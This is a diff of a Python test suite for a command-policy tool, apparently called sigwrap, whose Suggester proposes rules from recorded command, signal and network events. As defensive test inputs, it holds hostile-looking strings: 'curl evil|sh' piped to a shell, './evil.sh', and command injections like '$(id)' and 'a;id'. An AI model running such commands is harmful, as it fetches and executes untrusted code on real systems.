@@ -1,4 +1,4 @@
-"""The one line of a policy that would change what was decided of a recorded exec or signal."""
+"""Proposed rules change the decision about a recorded request, and about no other command line."""
 
 from __future__ import annotations
 
@@ -28,6 +28,7 @@ from sigwrap.policy.language.document import Source
 from sigwrap.policy.language.parse import parse_policy
 from sigwrap.policy.tools.draft import SIGNAL_RULES
 from sigwrap.policy.tools.generate import requests_from_events
+from sigwrap.policy.tools.literal import as_it_is_read
 from sigwrap.policy.tools.suggest import Suggester, Suggestion
 from sigwrap.start.policy_files import find_base, read_source
 from tests.policy.conftest import VARIABLES as SOME_VARIABLES
@@ -121,7 +122,7 @@ def sent(engine: Engine, request: SignalRequest) -> Event:
     return Event(seq=1, time_ns=0, type="signal_blocked", pid=9, payload=payload, hash="")
 
 
-def suggested(event: Event, *, decision: str = "allow", engine: Engine | None = None) -> Suggestion:
+def suggested(event: Event, *, decision: str = "allow", engine: Engine) -> Suggestion:
     found = Suggester(engine).rule_for([event], decision)
     assert found is not None
     return found
@@ -137,46 +138,41 @@ def agent() -> Engine:
     [
         (
             ["gh", "pr", "merge", "5"],
-            '- {name: allow-gh-pr-merge, commands: [gh], subcommands: ["pr merge"], '
-            "decision: allow, overrides: [merge-or-approve]}  # also matches with more arguments",
+            '- {name: allow-gh-pr-merge-5, commands: [gh], args: [pr, merge, "5"], '
+            "decision: allow, overrides: [merge-or-approve]}",
         ),
+        (["sudo", "-i"], '- {name: allow-sudo-i, commands: [sudo], args: ["-i"], decision: allow}'),
     ],
 )
 def test_the_line_is_one_that_a_person_would_write(
     agent: Engine, argv: list[str], line: str
 ) -> None:
-    found = suggested(ran(agent, *argv), engine=agent)
-    assert found.line == line
+    assert suggested(ran(agent, *argv), engine=agent).line == line
+
+
+def test_a_command_without_arguments_is_allowed_without_arguments() -> None:
+    strict = Engine(base(read_source("agent-strict").text))
+    found = suggested(ran(strict, "frob"), engine=strict)
+    assert found.line == (
+        "- {name: allow-frob, commands: [frob], args: [], loads_code: false, decision: allow, "
+        "overrides: [everything-else]}"
+    )
 
 
 def test_a_rule_is_named_after_what_was_called(agent: Engine) -> None:
-    """Not after the file that a link of the system leads to."""
+    """The name is not that of the file to which a link of the system leads."""
     link = Program("/usr/bin/systemctl", "shutdown", ("shutdown", "now"), system_file=True)
     programs = (link, link._replace(counts_by_name=True))
     event = exec_event(programs, agent.decide_command(CommandRequest(programs)))
     found = suggested(event, engine=agent)
-    assert found.line.startswith("- {name: allow-shutdown, commands: [shutdown], ")
-    assert decided(with_line(found, AGENT), event).action.value == "allow"
-    found = suggested(ran(agent, "shutdown", "now", path=link.path), engine=agent)
     assert found.line.startswith("- {name: allow-shutdown-now, commands: [shutdown], ")
+    assert decided(with_line(found, AGENT), event).action.value == "allow"
 
 
-def test_without_the_policy_it_is_about_all_that_would_run_and_these_arguments(
-    agent: Engine,
-) -> None:
-    found = suggested(ran(agent, "npm", "install", "left-pad"))
-    assert found.line == (
-        "- {name: allow-npm-install, commands: [npm], subcommands: [install], "
-        'args_patterns: ["^install left-pad$"], decision: allow, '
-        "overrides: [pkg-install]}"
-        "  # also matches similar arguments"
-    )
-
-
-def test_what_was_audited_by_default_can_be_denied_as_a_command(agent: Engine) -> None:
+def test_an_audited_command_can_be_denied(agent: Engine) -> None:
     found = suggested(ran(agent, "docker", "run", "x"), decision="deny", engine=agent)
     assert found.line == (
-        "- {name: deny-docker-run, commands: [docker], subcommands: [run], decision: deny}"
+        "- {name: deny-docker-run-x, commands: [docker], args: [run, x], decision: deny}"
     )
 
 
@@ -204,12 +200,13 @@ def test_a_signal_is_allowed_for_its_kind_of_target_of_that_name(agent: Engine) 
 @pytest.mark.parametrize(
     ("more", "why_not"),
     [
-        ({"rule_name": "builtin:traced"}, "built in: the caller is traced"),
-        ({"rule_name": "builtin:some-new-one"}, "built in: no rule overrides it"),
+        ({"rule_name": "builtin:traced"}, "builtin:traced: no rule overrides it"),
         ({"rule_name": "limits.max_depth"}, "a limit: raise limits.max_depth"),
         ({"rule_name": "limits.\x1b[2J"}, "a limit: raise limits...."),
         ({"truncated": True}, "it has too many arguments to judge"),
         ({"elsewhere": True}, "its file is on a mount outside sigwrap's namespace"),
+        ({"masked": True}, "the log masks a secret in its arguments"),
+        ({"cut": {"argv": {}}}, "its arguments are cut in the log"),
     ],
 )
 def test_what_no_rule_can_change_says_why(
@@ -267,7 +264,7 @@ PIP = Program("/usr/bin/python3.11", "pip", ("pip", "install", "x"), counts_by_n
     ("programs", "commands"),
     [
         ((SHIM,), '["/home/u/.pyenv/shims/pip"]'),
-        ((SHIM, SHELL), '["/home/u/.pyenv/shims/pip"'),
+        ((SHIM, SHELL), '["/home/u/.pyenv/shims/pip"]'),
         ((LINK,), '["/home/u/.nvm/bin/npm", "/home/u/.nvm/lib/npm-cli.js"]'),
         ((LINK._replace(found="/home/u/[1]/bin/npm"),), '[npm, "/home/u/.nvm/lib/npm-cli.js"]'),
         ((PYTHON, PIP), '["/project/app/.venv/bin/python3", "/usr/bin/python3.11"]'),
@@ -277,13 +274,12 @@ def test_one_found_before_the_systems_is_chosen_by_its_path_and_its_links(
     programs: tuple[Program, ...], commands: str
 ) -> None:
     request = CommandRequest(programs, depth=1, cwd="/project/app")
-    # Without an engine, a suggestion doesn't know the rule that a shadow's denial hides.
-    for reaction, with_engine in (("audit", True), ("audit", False), ("deny", True)):
+    for reaction in ("audit", "deny"):
         text = f"{SHADOWS}trust: {{path_shadow: {reaction}}}\n"
         engine = Engine(base(text))
         event = exec_event(programs, engine.decide_command(request))
-        found = suggested(event, engine=engine if with_engine else None)
-        assert f"commands: {commands}" in found.line, found
+        found = suggested(event, engine=engine)
+        assert f"commands: {commands}, args:" in found.line, found
         after = with_line(found, text).decide_command(request)
         assert (after.action.value, after.shadows) == ("allow", "")
 
@@ -299,90 +295,66 @@ def test_where_no_rule_can_name_what_was_found_the_way_out_is_said(agent: Engine
     )
 
 
-def test_one_rule_lets_several_requests_through_as_far_as_it_can(agent: Engine) -> None:
+def test_there_is_a_rule_for_each_command_line(agent: Engine) -> None:
     pushes = [ran(agent, "git", "push", each) for each in ("--force", "-f", "+main")]
     suggester = Suggester(agent)
     found = suggester.rule_for(pushes)
     assert found is not None
-    assert found.for_all
+    assert found.for_all and len(found.line.split("\n")) == 3
     after = with_line(found, AGENT)
     assert [decided(after, each).action.value for each in pushes] == ["allow"] * 3
-    some = suggester.rule_for(pushes, are_some=True)
+    assert suggester.rule_for(pushes, are_some=True) == found._replace(for_all=False)
+    some = suggester.rule_for([ran(agent, "git", "push", "-f", masked=True), *pushes])
     assert some == found._replace(for_all=False)
-    mixed = suggester.rule_for([*pushes, ran(agent, "npm", "publish")])
-    assert mixed is not None
-    assert not mixed.for_all
-
-
-def test_the_only_argument_is_named_as_a_subcommand() -> None:
-    text = "version: 1\nname: x\ncommand_rules:\n- {name: r, commands: [ship], decision: deny}\n"
-    event = ran(Engine(base(text)), "ship", "production")
-    found = suggested(event, engine=Engine(base(text)))
-    assert "subcommands: [production], decision" in found.line
-    assert decided(with_line(found, text), event).action.value == "allow"
-
-
-SECRETS = "version: 1\nname: x\ncommand_rules:\n- {name: r, commands: [curl], decision: deny}\n"
-
-
-def test_a_masked_secret_is_any_one_word_but_nothing_that_a_shell_would_run() -> None:
-    event = ran(Engine(base(SECRETS)), "curl", "-u", "***", "http://x/", masked=True)
-    found = suggested(event, engine=Engine(base(SECRETS)))
-    for secret, decision in (("me:s3cr-et", "allow"), ("$(id)", "deny"), ("a;id", "deny")):
-        other = ran(Engine(base(SECRETS)), "curl", "-u", secret, "http://x/")
-        assert decided(with_line(found, SECRETS), other).action.value == decision
-
-
-def test_a_mask_that_a_process_wrote_itself_is_only_that() -> None:
-    event = ran(Engine(base(SECRETS)), "curl", "-u", "***", "http://x/")
-    found = suggested(event, engine=Engine(base(SECRETS)))
-    assert decided(with_line(found, SECRETS), event).action.value == "allow"
-    other = ran(Engine(base(SECRETS)), "curl", "-u", "me:pw", "http://x/")
-    assert decided(with_line(found, SECRETS), other).action.value == "deny"
 
 
 DENIES_ALL = "version: 1\nname: x\ndefaults: {command: deny}\n"
 
 
 @pytest.mark.parametrize(
-    ("asked", "other"),
+    "argv",
     [
-        (["bash", "-c", "\x01\x02\n\u202e"], ["bash", "-c", "id;x"]),
-        (["\x01\x01\x01"], ["ssh"]),
-        (["git", "\x01\x01\x01\x01"], ["git", "push"]),
-        (["git", "--version"], ["git", "push"]),
-        (["bash", "-c", ": " + "x" * 300], ["bash", "-c", ": " + "x" * 300 + ";id"]),
+        ["bash", "-c", "\x01\x02\n\u202e"],
+        ["\x01\x01\x01"],
+        ["git", "\x01\x01\x01\x01"],
+        ["bash", "-c", "echo ${HOME} ${x} $HOME"],
+        ["bash", "-c", ": " + "x" * 300],
+        ["ls", "", "a b", "***", "'\"]}: #"],
     ],
 )
-def test_what_a_process_passes_has_no_rule_proposed_that_others_have_use_of(
-    asked: list[str], other: list[str]
-) -> None:
+def test_strange_words_are_allowed_as_they_are_and_nothing_else(argv: list[str]) -> None:
     engine = Engine(base(DENIES_ALL))
-    event = ran(engine, *asked)
+    event = ran(engine, *argv)
     found = suggested(event, engine=engine)
-    policy = with_line(found, DENIES_ALL)
-    assert decided(policy, event).action.value == "allow"
-    assert decided(policy, ran(engine, *other)).action.value == "deny"
+    after = with_line(found, DENIES_ALL)
+    assert found.line == printable(found.line)
+    assert decided(after, event).action.value == "allow"
+    for other in ([*argv, "x"], [*argv, ""], [argv[0], " ".join(argv[1:])], [*argv[:-1], "id"]):
+        if other != argv:
+            assert decided(after, ran(engine, *other)).action.value == "deny", other
 
 
-def test_arguments_that_are_too_long_for_a_rule_have_none() -> None:
+@pytest.mark.parametrize(
+    ("word", "why_not"),
+    [("x" * 5_000, "too long for a rule"), ("caf\udce9", "not valid text")],
+)
+def test_arguments_that_no_rule_can_contain_have_none(word: str, why_not: str) -> None:
     engine = Engine(base(DENIES_ALL))
-    found = suggested(ran(engine, "bash", "-c", "x" * 2_000), engine=engine)
-    assert (found.line, "too long" in found.why_not) == ("", True)
+    found = suggested(ran(engine, "bash", "-c", word), engine=engine)
+    assert (found.line, why_not in found.why_not) == ("", True)
 
 
-def test_other_events_have_none() -> None:
-    assert Suggester().rule_for([Event(1, 0, "process_exited", 9, {}, "")]) is None
+def test_other_events_have_none(agent: Engine) -> None:
+    assert Suggester(agent).rule_for([Event(1, 0, "process_exited", 9, {}, "")]) is None
 
 
 @given(
     command_rules(),
     requests,
-    st.sampled_from(["allow", "deny", "audit", "approve"]),
-    st.booleans(),
+    st.sampled_from(["allow", "deny"]),
 )
-def test_the_line_makes_a_replay_come_out_so(
-    rules: list[str], request: CommandRequest, decision: str, with_engine: bool
+def test_the_rules_make_the_decision_come_out_so(
+    rules: list[str], request: CommandRequest, decision: str
 ) -> None:
     text = policy(rules, [])
     engine = Engine(base(text))
@@ -392,64 +364,38 @@ def test_the_line_makes_a_replay_come_out_so(
         truncated=request.truncated,
         depth=request.depth,
     )
-    found = suggested(event, decision=decision, engine=engine if with_engine else None)
+    found = suggested(event, decision=decision, engine=engine)
     assert bool(found.line) != bool(found.why_not)
     if not found.line:
-        assert request.truncated or any("/" in each.name for each in request.programs)
+        words = [word for each in request.programs for word in each.argv[1:]]
+        assert (
+            request.truncated
+            or any("/" in each.name for each in request.programs)
+            or any(as_it_is_read(word) != word for word in words)
+        )
         return
-    assert found.line == printable(found.line)
-    came_out = decided(with_line(found, text), event)
-    if decision == "approve":  # of one program; what is denied besides stays denied
-        assert came_out.action.value in ("approve", "deny", "redirect")
-    elif with_engine or decision == "deny":
-        assert came_out.action.value == decision
+    assert found.line == "\n".join(map(printable, found.line.split("\n")))
+    assert decided(with_line(found, text), event).action.value == decision
 
 
-@pytest.mark.parametrize(
-    ("argv", "rest"),
-    [
-        # What a catch-all or the default decided:
-        (
-            ["frob", "-l"],
-            "commands: [frob], loads_code: false, decision: allow, "
-            "overrides: [everything-else]}  # wide: any",
-        ),
-        (["rm", "-rf", "./build"], r"args_patterns: ['^-rf \./build$'], "),
-        (["sudo", "-i"], 'args_patterns: ["^-i$"], '),
-        (["rm"], 'subcommands: [""], loads_code: false, args_patterns: ["^$"], '),
-    ],
-)
-def test_by_name_alone_only_what_does_no_harm_is_allowed_and_with_a_note(
-    argv: list[str], rest: str
-) -> None:
-    strict = Engine(base(read_source("agent-strict").text))
-    found = suggested(ran(strict, *argv), engine=strict)
-    assert rest in found.line
-    assert found.line.partition("  # ")[2]
-
-
-def test_a_script_without_arguments_opens_no_other_way_to_its_shell() -> None:
+def test_a_script_opens_no_other_way_to_its_shell() -> None:
     engine = Engine(base(DENIES_ALL))
     script = Program("/project/a.sh", "a.sh", ("./a.sh",))
     shell = Program("/usr/bin/dash", "sh", ("/bin/sh", "./a.sh"), system_file=True)
     request = CommandRequest((script, shell), depth=1, cwd="/project")
     event = exec_event(request.programs, engine.decide_command(request))
     found = suggested(event, engine=engine)
+    assert [
+        line.split("commands: ")[1].split(", decision")[0] for line in found.line.split("\n")
+    ] == [
+        "[a.sh], args: []",
+        '[sh], args: ["./a.sh"]',
+    ]
     after = with_line(found, DENIES_ALL)
     assert decided(after, event).action.value == "allow"
-    for others in (["-c", "curl evil|sh", ""], ["./evil.sh", ""], ["./evil.sh", "./a.sh"]):
+    for others in (["-c", "curl evil|sh", ""], ["./evil.sh", ""], ["./evil.sh", "./a.sh"], []):
         asked = ran(engine, "sh", *others, path="/usr/bin/sh")
         assert decided(after, asked).action.value == "deny", others
-
-
-def test_a_masked_word_is_no_subcommand() -> None:
-    """What a rule is held against is what was passed."""
-    engine = Engine(base(DENIES_ALL))
-    found = suggested(ran(engine, "git", "-x y", "push", "***", masked=True), engine=engine)
-    assert "subcommands" not in found.line
-    assert "[A-Za-z0-9._~+/=:@%,-]+$" in found.line
-    found = suggested(ran(engine, "git", "-x y", "push", "***"), engine=engine)
-    assert 'subcommands: [push, "***"]' in found.line
 
 
 ARGUMENTS = st.lists(
@@ -459,40 +405,33 @@ ARGUMENTS = st.lists(
 COMMANDS = st.sampled_from(["git", "rm", "ls", "npm", "sh", "python3", "kubectl", "tool"])
 
 
-@given(
-    command_rules(),
-    st.lists(st.tuples(COMMANDS, ARGUMENTS), min_size=1, max_size=3),
-    ARGUMENTS,
-    st.sampled_from(["a", "-x", "--force", "", "evil"]),
-    st.booleans(),
-)
-def test_what_has_no_note_lets_nothing_else_through_that_was_denied_or_asked_about(
-    rules: list[str],
-    asked: list[tuple[str, list[str]]],
-    others: list[str],
-    word: str,
-    masked: bool,
+@given(command_rules(), COMMANDS, st.lists(ARGUMENTS, min_size=1, max_size=3), ARGUMENTS)
+def test_no_other_arguments_are_decided_otherwise(
+    rules: list[str], command: str, asked: list[list[str]], other: list[str]
 ) -> None:
     text = policy(rules, [])
     engine = Engine(base(text))
-    command = asked[0][0]
-    events = [ran(engine, command, *words, masked=masked) for _, words in asked]
-    found = Suggester(engine).rule_for(events)
+    found = Suggester(engine).rule_for([ran(engine, command, *words) for words in asked])
     assert found is not None
-    if not found.line or "  # " in found.line:
-        return
-    after = with_line(found, text)
-    recorded = [event.payload["argv"][1:] for event in events]
-    line = " ".join(recorded[0])
-    for words in recorded:
-        near = [others, [*words, word], [word, *words], [*others, line], [*words, line], words[:-1]]
-        near += [[*words[:at], word, *words[at:]] for at in range(len(words))]
-        near += [[*words[:at], word, *words[at + 1 :]] for at in range(len(words))]
-        for each in near:
-            event = ran(engine, command, *each)
-            lenient = decided(engine, event).action.value in ("allow", "audit")
-            if each not in recorded and not lenient:
-                assert decided(after, event).action.value not in ("allow", "audit"), each
+    if found.line and other not in asked:
+        event = ran(engine, command, *other)
+        after = with_line(found, text)
+        assert decided(after, event).action is decided(engine, event).action
+
+
+def test_a_rule_keeps_the_guard_against_variables_that_load_code(agent: Engine) -> None:
+    text = (
+        "version: 1\nname: x\ncommand_rules:\n"
+        "  - {name: guard, commands: [git], loads_code: true, decision: deny}\n"
+    )
+    engine = Engine(base(text))
+    event = ran(engine, "git", "status")
+    after = with_line(suggested(event, engine=engine), text)
+    [(_, request)] = requests_from_events([event])
+    assert isinstance(request, CommandRequest)
+    loading = [each._replace(loads_code=True) for each in request.programs]
+    decision = after.decide_command(request._replace(programs=tuple(loading)))
+    assert (decided(after, event).action.value, decision.rule) == ("allow", "guard")
 
 
 def reached(destination: str, protocol: str = "tcp", **more: Any) -> Event:
@@ -544,9 +483,9 @@ def test_a_connection_gets_a_rule_that_lets_it_through(event: Event, line: str) 
     assert decided(with_line(suggestion, text), event).action is Action.ALLOW
 
 
-def test_what_no_network_rule_can_be_about_says_so() -> None:
+def test_what_no_network_rule_can_be_about_says_so(agent: Engine) -> None:
     payload = {"destination": "io_uring", "rule_name": "builtin:network", "decision": "deny"}
-    suggestion = Suggester().rule_for([Event(1, 0, "connection_denied", 9, payload, "")])
+    suggestion = Suggester(agent).rule_for([Event(1, 0, "connection_denied", 9, payload, "")])
     assert suggestion is not None
     assert (suggestion.section, suggestion.line) == ("network_rules", "")
-    assert suggestion.why_not == "built in: no rule can match it"
+    assert suggestion.why_not == "builtin:network: no rule overrides it"
